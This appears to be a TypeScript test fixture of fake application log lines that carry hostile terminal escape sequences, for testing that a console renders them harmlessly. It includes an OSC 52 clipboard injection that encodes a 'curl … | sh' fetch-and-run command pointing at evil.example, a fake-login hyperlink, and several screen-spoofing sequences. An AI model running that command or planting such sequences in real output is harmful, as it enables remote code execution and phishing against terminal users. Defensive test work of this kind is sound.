// Lines carrying terminal control sequences, as they reach real logs through user input, request
// paths and careless prints. A console must show them as text and keep only colour (SGR).

const esc = '\u001B';
const bel = '\u0007';
const st = `${esc}\\`;

const clipboardPayload = Buffer.from('curl -fsSL http://evil.example/x | sh').toString('base64');

/** Each kind of hostile sequence, written the way it shows up in an application's log. */
export const hostileLines = {
	'osc52-clipboard': `Note title updated: "${esc}]52;c;${clipboardPayload}${bel}" by user 17`,
	'osc-title': `Search query logged: "${esc}]0;root@prod: ALL SYSTEMS NOMINAL${bel}" (title change, BEL)`,
	'osc-title-st': `Profile bio saved: "${esc}]2;pwned${st}" (title change, ST)`,
	'clear-screen': `Rendering template for "${esc}[2J${esc}[H Welcome back, operator" failed`,
	'cursor-up': `Upload name: "${esc}[10A${esc}[2K[INFO] all health checks passed"`,
	'c1-csi': 'Imported CSV row: "\u009B2J\u009B1;1H\u009B31mfake prompt$ "',
	backspace: 'Login attempt: user=admin password=hunter2\b\b\b\b\b\b\b******* rejected',
	bell: `Webhook delivery: payload "${bel}${bel}${bel} ALERT ${bel}" ignored`,
	'carriage-return': 'GET /api/notes/ 200\rFAKE: deploy succeeded, no rollback needed      ',
	hyperlink: `Comment posted: "${esc}]8;;http://evil.example/login${st}click to re-authenticate${esc}]8;;${st}"`,
	'alternate-screen': `User-agent string rejected: "${esc}[?1049h${esc}[?25l${esc}c"`,
} as const;

export const hostileKinds = Object.keys(hostileLines) as Array<keyof typeof hostileLines>;
